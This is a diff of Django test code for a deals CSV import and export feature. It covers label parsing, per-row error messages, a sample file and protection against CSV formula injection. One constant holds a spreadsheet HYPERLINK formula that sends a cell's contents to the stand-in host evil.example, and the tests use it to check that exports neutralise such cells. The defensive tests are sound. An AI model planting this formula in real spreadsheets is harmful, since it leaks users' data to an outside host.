@@ -13,7 +13,7 @@ from django_countries import countries
 
 from alliance.models import Contribution, Opco
 from deals.models import Deal, StageChange
-from deals.transfer import IMPORT_COLUMNS, Importer
+from deals.transfer import IMPORT_COLUMNS, Importer, ImportReport
 from tests.factories import DealFactory, DealPartnerFactory, OpcoFactory
 
 HEADER = ",".join(IMPORT_COLUMNS)
@@ -162,3 +162,135 @@ def test_export_follows_the_lists_filters(client_for, member, operator, partner)
     rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
     assert [r["country"] for r in rows] == ["PL"]
     assert response["Content-Disposition"].startswith("attachment;")
+
+
+def test_choices_read_as_the_pages_labels_or_as_codes_in_any_case(
+    client_for, member, operator, partner, opco
+):
+    OpcoFactory(operator=operator, country="DE")
+    OpcoFactory(operator=operator, country="PL")
+    client = client_for(member)
+    preview = upload(
+        client,
+        csv_file(
+            row(
+                stage="NEGOTIATING",
+                deal_type="White-label",
+                visibility="Alliance — every member sees the deal (not the confidential notes)",
+            ),
+            row(
+                country="DE",
+                stage="Declined",
+                deal_type="revenue share",
+                visibility="private",
+                decline_reason="Competing deal in place",
+                decline_explanation="A rival signed first.",
+            ),
+            row(country="PL", deal_type="Carrier_Billing", visibility="SUMMARY"),
+        ),
+    )
+    assert preview.context["report"].errors == []
+    client.post(reverse("deals:import"), {"confirm": "1"})
+    saved = {
+        deal.country.code: (deal.stage, deal.deal_type, deal.visibility, deal.decline_reason)
+        for deal in Deal.objects.all()
+    }
+    assert saved == {
+        "FR": ("negotiating", "white_label", "alliance", ""),
+        "DE": ("declined", "revenue_share", "private", "competing_deal"),
+        "PL": ("exploring", "carrier_billing", "summary", ""),
+    }
+
+
+def test_every_error_of_every_row_is_reported(client_for, member, partner, opco):
+    response = upload(
+        client_for(member),
+        csv_file(
+            row(stage="launched!", deal_type="", started_on="soon"),
+            row(country="XX", visibility="public", exclusive="maybe"),
+        ),
+    )
+    report = response.context["report"]
+    assert report.errors == [
+        (
+            2,
+            "stage “launched!” is not one of: Exploring, Negotiating, Signed, Launched, Ended, "
+            "Declined.",
+        ),
+        (
+            2,
+            "deal_type is required: one of Distribution, Bundling, Carrier billing, "
+            "Zero-rating, White-label, Revenue share, Co-marketing, IoT connectivity, Other.",
+        ),
+        (2, "started_on “soon” is not a date (YYYY-MM-DD)."),
+        (3, "“XX” is not an ISO country code."),
+        (3, "visibility “public” is not one of: Alliance, Summary, Private."),
+        (3, "exclusive “maybe” should be true or false."),
+    ]
+    assert (report.rows_with_errors, report.error_count) == (2, 6)
+    assert "2 rows with errors" in response.content.decode().replace("</strong><span>", " ")
+
+
+def test_a_rule_error_and_a_shape_error_of_one_row_are_both_reported(
+    client_for, member, partner, opco
+):
+    response = upload(client_for(member), csv_file(row(country="DE", started_on="soon")))
+    assert response.context["report"].errors == [
+        (2, "started_on “soon” is not a date (YYYY-MM-DD)."),
+        (2, "Orange has no opco in Germany."),
+    ]
+
+
+def test_the_import_page_offers_a_sample_file_built_from_the_columns(
+    client_for, member, partner, opco
+):
+    client = client_for(member)
+    page = client.get(reverse("deals:import")).content.decode()
+    assert reverse("deals:import_sample") in page
+    assert "formulas" in page and "Revenue share" in page
+    response = client.get(reverse("deals:import_sample"))
+    assert response["Content-Disposition"].startswith("attachment;")
+    sample = b"".join(response.streaming_content)
+    header, example = list(csv.reader(io.StringIO(sample.decode())))
+    assert header == IMPORT_COLUMNS
+    assert dict(zip(header, example, strict=True))["deal_type"] == "Revenue share"
+    report = Importer(user=member).validate(io.BytesIO(sample))
+    assert report.is_valid and report.created == 1
+
+
+def test_the_result_is_worded_in_the_singular_and_the_plural(client_for, member, partner, opco):
+    client = client_for(member)
+    upload(client, csv_file(row()))
+    done = client.post(reverse("deals:import"), {"confirm": "1"}, follow=True)
+    assert "Imported 1 row: 1 deal created, 0 changed, 0 unchanged." in done.content.decode()
+    assert ImportReport(rows=2, created=2).summary() == (
+        "Imported 2 rows: 2 deals created, 0 changed, 0 unchanged."
+    )
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(
+    client_for, member, other_operator, make_partner
+):
+    """Issue 10, point 4: Orange imported a summary that is a formula; BT's export carried it."""
+    DealFactory(
+        operator=other_operator,
+        partner=make_partner(name="@Risk", slug="risk"),
+        summary=FORMULA,
+        country="CO",
+    )
+    response = client_for(member).get(reverse("deals:export"))
+    body = b"".join(response.streaming_content).decode()
+    [exported] = list(csv.DictReader(io.StringIO(body)))
+    assert exported["summary"] == "'" + FORMULA
+    assert exported["partner_name"] == "'@Risk"
+    assert exported["id"].isdigit()  # numbers we write ourselves are left as they are
+
+
+def test_an_exported_formula_cell_imports_back_as_its_text(client_for, member, partner, opco):
+    client = client_for(member)
+    upload(client, csv_file(row(summary="'" + FORMULA.replace(",", ";"))))
+    client.post(reverse("deals:import"), {"confirm": "1"})
+    assert Deal.objects.get().summary == FORMULA.replace(",", ";")
